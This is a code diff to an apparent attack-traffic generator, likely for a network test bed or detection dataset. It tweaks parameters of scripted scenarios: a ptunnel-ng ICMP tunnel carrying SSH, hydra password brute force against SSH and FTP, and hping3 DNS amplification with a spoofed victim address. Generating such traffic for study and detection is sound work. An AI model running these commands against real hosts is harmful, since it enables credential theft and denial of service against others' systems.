@@ -95,7 +95,7 @@ def attacks(chance: random.Random) -> Iterator[Take]:
         ("client", "sleep 1; ptunnel-ng -p{outside}.20 -l2222 & sleep 3; for i in 1 2 3; do ssh -p 2222 -n -i {folder}/id "
          "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1 'seq 1 3000'; done"),
     ), 25, False)  # fmt: skip
-    tasks = chance.choice((1, 4))
+    tasks = chance.choice((4, 8))
     for service, target in (
         ("ssh", "ssh://{victim}"),
         ("ftp", "ftp://{victim}"),
@@ -105,7 +105,7 @@ def attacks(chance: random.Random) -> Iterator[Take]:
             f"guess_{service}",
             "brute_force",
             ((a, f"hydra -I -q -l admin -P {{folder}}/passwords -t {tasks} {target}"),),
-            40,
+            60,
         )
     mode = chance.choice(("-H", "-B"))
     yield Take(
@@ -117,7 +117,7 @@ def attacks(chance: random.Random) -> Iterator[Take]:
     yield Take(
         "amplified",
         "amplification",
-        ((a, "hping3 -q -2 -p 53 -s 4500 -a {victim} -E {folder}/query -d 40 -i u4000 {gateway}"),),
+        ((a, "hping3 -q -2 -p 53 -s 4500 -a {victim} -E {folder}/query -d 44 -i u4000 {gateway}"),),
         8,
     )
     yield Take("cleartext", "cleartext_credentials", (
